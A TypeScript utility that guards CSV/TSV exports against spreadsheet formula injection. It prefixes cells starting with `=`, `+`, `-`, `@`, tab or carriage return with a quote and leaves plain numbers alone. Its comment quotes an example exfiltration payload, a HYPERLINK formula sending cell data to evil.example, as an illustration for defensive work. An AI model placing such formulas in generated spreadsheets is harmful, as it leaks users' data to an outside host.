/**
 * Keeps a text cell of a CSV/TSV filled copy from being run as a formula when the copy is opened in a
 * spreadsheet. A cell a spreadsheet reads as a formula or a command — one beginning with `=`, `+`, `-`,
 * `@`, a tab or a carriage return (OWASP, "CSV Injection") — gets a single quote in front, the prefix
 * spreadsheets themselves use for "this is text": `=HYPERLINK("https://evil.example/?d="&A2,…)`, quoted
 * from a document, arrives as `'=HYPERLINK(…)` and stays text. A plain signed number ("-2", "+3.5",
 * "-1,234.5", "-12%") is left as it is: a spreadsheet reads it as the number it is and runs nothing, and
 * a figure in an answer stays readable. XLSX copies need none of this (their cells are typed strings).
 */

/** What spreadsheets start a formula or a DDE command with. */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A signed number and nothing else: digits with optional thousands separators, decimals and a percent sign. */
const PLAIN_NUMBER = /^[+-]?\d{1,3}(?:[, ]?\d{3})*(?:\.\d+)?%?$|^[+-]?\d+(?:\.\d+)?%?$/;

export function neutraliseFormula(value: string): string {
  if (!FORMULA_START.test(value) || PLAIN_NUMBER.test(value)) return value;
  return `'${value}`;
}
